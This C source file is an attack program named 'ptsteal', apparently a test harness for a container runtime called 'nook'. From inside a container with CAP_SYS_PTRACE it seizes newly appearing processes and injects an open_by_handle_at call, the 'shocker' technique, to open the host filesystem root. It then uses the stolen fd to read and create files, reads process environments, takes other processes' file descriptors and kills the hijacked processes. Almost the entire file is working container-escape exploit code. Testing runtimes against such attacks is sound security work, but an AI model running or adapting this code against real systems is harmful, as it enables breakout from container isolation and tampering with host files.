/* ptsteal MARKER STOPFILE: the attacker of a runtime whose process, once
 * visible in the container's pid namespace, still holds capabilities the
 * container lacks. Run inside a container with CAP_SYS_PTRACE (and
 * nothing else that matters: no CAP_DAC_READ_SEARCH), it polls /proc for
 * pids it has not seen, attaches to each (PTRACE_SEIZE: non-dumpable does
 * not stop CAP_SYS_PTRACE), and at its next syscall entry replaces that
 * syscall with open_by_handle_at(AT_FDCWD, {ext4 inode 2, generation 0},
 * O_DIRECTORY): with CAP_DAC_READ_SEARCH in the host's user namespace that
 * opens the root directory of the filesystem the container's root lives
 * on ("shocker"). The fd is taken with pidfd_getfd and MARKER (a path on
 * that filesystem, relative to its root) is read and a file created next
 * to it. Lines: "READ handle PID: content", "CREATED handle PID",
 * "ERRNO PID: n" (what the injected call returned), "ENVIRON PID: VAR"
 * when /proc/PID/environ (readable with CAP_SYS_PTRACE) holds a variable
 * named NOOK_ATTACK_* (which the host sets only for nook), and at the end
 * "seen N attached M injected K blank B" (B: environments read that were
 * all zero bytes, i.e. scrubbed by nook before an execve). With a third
 * argument "env" it only reads environments, never attaches; with "fds"
 * it also takes fds 3..63 of each new pid (pidfd_getfd) and holds them
 * until the end ("held H seqpacket S": how many, how many of them
 * SOCK_SEQPACKET sockets, as nook's sync socket is). Each process attached to and stopped gets
 * a line "CREDS PID: COMM CapPrm CapEff Seccomp NoNewPrivs" from its
 * /proc/PID/status (COMM "nook": caught before its execve). Stops when
 * STOPFILE exists (or after 600 s). */
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "procpids.h"

static unsigned char known[MAX_PID];
static const char *marker;
static long seen, attached, injected, blank;
static int env_only, fds_only;
static long held, held_seqpacket;

static void steal(int pid, long fdnum)
{
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, (int)fdnum, 0);
        if (pidfd >= 0)
                close(pidfd);
        if (fd < 0) {
                printf("GETFD %d: errno %d\n", pid, errno);
                return;
        }
        int m = openat(fd, marker, O_RDONLY | O_CLOEXEC);
        if (m >= 0) {
                char buf[128];
                ssize_t n = read(m, buf, sizeof buf - 1);
                buf[n > 0 ? n : 0] = '\0';
                buf[strcspn(buf, "\n")] = '\0';
                printf("READ handle %d: %s\n", pid, buf);
                close(m);
        }
        char p[4200];
        snprintf(p, sizeof p, "%s.%d.handle", marker, pid);
        int c = openat(fd, p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (c >= 0) {
                printf("CREATED handle %d\n", pid);
                close(c);
        }
        close(fd);
}

/* The tracee's registers, and at a syscall entry stop, a different call
 * in its place: x86_64 has one register set (orig_rax is the number);
 * aarch64 reads and writes x0..x30/sp through NT_PRSTATUS and the number
 * through its own regset. */
#if defined(__x86_64__)
#define REG_SP(r)  ((r).rsp)
#define REG_RET(r) ((r).rax)
static int get_regs(int pid, struct user_regs_struct *r)
{
        return (int)ptrace(PTRACE_GETREGS, pid, 0, r);
}

static int set_call(int pid, struct user_regs_struct *r, long nr, unsigned long a, unsigned long b,
                    unsigned long c)
{
        r->orig_rax = (unsigned long)nr;
        r->rdi = a;
        r->rsi = b;
        r->rdx = c;
        return (int)ptrace(PTRACE_SETREGS, pid, 0, r);
}
#elif defined(__aarch64__)
#define REG_SP(r)  ((r).sp)
#define REG_RET(r) ((r).regs[0])
static int get_regs(int pid, struct user_regs_struct *r)
{
        struct iovec io = {r, sizeof *r};
        return (int)ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &io);
}

static int set_call(int pid, struct user_regs_struct *r, long nr, unsigned long a, unsigned long b,
                    unsigned long c)
{
        r->regs[0] = a;
        r->regs[1] = b;
        r->regs[2] = c;
        struct iovec io = {r, sizeof *r};
        int n = (int)nr;
        struct iovec no = {&n, sizeof n};
        if (ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &io) < 0)
                return -1;
        return (int)ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &no);
}
#else
#error "ptsteal: no register access for this architecture"
#endif

/* Attached and stopped: run to a syscall entry and replace the call. */
static void inject(int pid)
{
        int st;
        for (int i = 0; i < 64; i++) {
                if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
                    !WIFSTOPPED(st))
                        return;
                if (WSTOPSIG(st) != (SIGTRAP | 0x80))
                        continue;
                struct __ptrace_syscall_info info;
                if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) <= 0 ||
                    info.op != PTRACE_SYSCALL_INFO_ENTRY)
                        continue;
                struct user_regs_struct r;
                if (get_regs(pid, &r) < 0)
                        return;
                /* struct file_handle {u32 bytes = 8; int type = 1
                 * (FILEID_INO32_GEN); u32 ino = 2; u32 gen = 0}, below the
                 * red zone of the tracee's stack. */
                unsigned long at = (REG_SP(r) - 4096) & ~15UL;
                if (ptrace(PTRACE_POKEDATA, pid, at, (void *)((1UL << 32) | 8)) < 0 ||
                    ptrace(PTRACE_POKEDATA, pid, at + 8, (void *)2UL) < 0)
                        return;
                if (set_call(pid, &r, SYS_open_by_handle_at, (unsigned long)AT_FDCWD, at,
                             O_RDONLY | O_DIRECTORY) < 0 ||
                    ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
                    !WIFSTOPPED(st) || get_regs(pid, &r) < 0)
                        return;
                injected++;
                if ((long)REG_RET(r) >= 0)
                        steal(pid, (long)REG_RET(r));
                else
                        printf("ERRNO %d: %ld\n", pid, -(long)REG_RET(r));
                return;
        }
}

static void read_environ(int pid)
{
        char p[64], buf[65536];
        snprintf(p, sizeof p, "/proc/%d/environ", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0)
                close(fd);
        ssize_t zeros = 0;
        while (zeros < n && buf[zeros] == '\0')
                zeros++;
        if (n > 0 && zeros == n)
                blank++; /* a scrubbed environment: caught before its execve */
        for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1) {
                buf[n] = '\0';
                if (strncmp(buf + i, "NOOK_ATTACK_", 12) == 0)
                        printf("ENVIRON %d: %s\n", pid, buf + i);
        }
}

/* The credentials of a stopped tracee, as the kernel reports them. */
static void print_creds(int pid)
{
        char p[64], buf[4096], comm[32] = "?", prm[32] = "?", eff[32] = "?", sc[8] = "?",
                               nnp[8] = "?";
        snprintf(p, sizeof p, "/proc/%d/status", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0)
                close(fd);
        if (n <= 0)
                return;
        buf[n] = '\0';
        for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n")) {
                sscanf(l, "Name: %31s", comm);
                sscanf(l, "CapPrm: %31s", prm);
                sscanf(l, "CapEff: %31s", eff);
                sscanf(l, "Seccomp: %7s", sc);
                sscanf(l, "NoNewPrivs: %7s", nnp);
        }
        printf("CREDS %d: %s %s %s %s %s\n", pid, comm, prm, eff, sc, nnp);
}

static void attack(int pid)
{
        read_environ(pid);
        if (env_only)
                return;
        if (fds_only) { /* take its fds 3..63 with pidfd_getfd and keep them */
                int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
                for (int n = 3; pidfd >= 0 && n < 64; n++) {
                        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
                        if (fd < 0)
                                continue;
                        held++;
                        int type = 0;
                        socklen_t len = sizeof type;
                        if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 &&
                            type == SOCK_SEQPACKET)
                                held_seqpacket++;
                }
                if (pidfd >= 0)
                        close(pidfd);
                return;
        }
        if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) < 0)
                return;
        attached++;
        int st;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
            WIFSTOPPED(st)) {
                print_creds(pid);
                inject(pid);
        }
        fflush(stdout);
        kill(pid, SIGKILL); /* whatever it was, it is ours now: end it */
        while (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
                ;
}

static void pass(int first)
{
        DIR *d = opendir("/proc");
        if (!d)
                return;
        long pid;
        while ((pid = next_pid(d))) {
                if (pid == 1 || known[pid])
                        continue;
                known[pid] = 1;
                if (first)
                        continue;
                seen++;
                attack((int)pid);
        }
        closedir(d);
}

int main(int argc, char **argv)
{
        if (argc < 3 || argc > 4 || argv[1][0] == '/') {
                fprintf(stderr, "usage: ptsteal MARKER-RELATIVE-TO-FS-ROOT STOPFILE [env]\n");
                return 2;
        }
        env_only = argc == 4 && strcmp(argv[3], "env") == 0;
        fds_only = argc == 4 && strcmp(argv[3], "fds") == 0;
        marker = argv[1];
        pass(1);
        int r = open("/tmp/ptsteal.ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (r >= 0)
                close(r);
        time_t end = time(NULL) + 600;
        for (unsigned long n = 0;; n++) {
                pass(0);
                if ((n & 255) == 0 && (access(argv[2], F_OK) == 0 || time(NULL) > end))
                        break;
        }
        printf("seen %ld attached %ld injected %ld blank %ld held %ld seqpacket %ld\n", seen,
               attached, injected, blank, held, held_seqpacket);
        return 0;
}
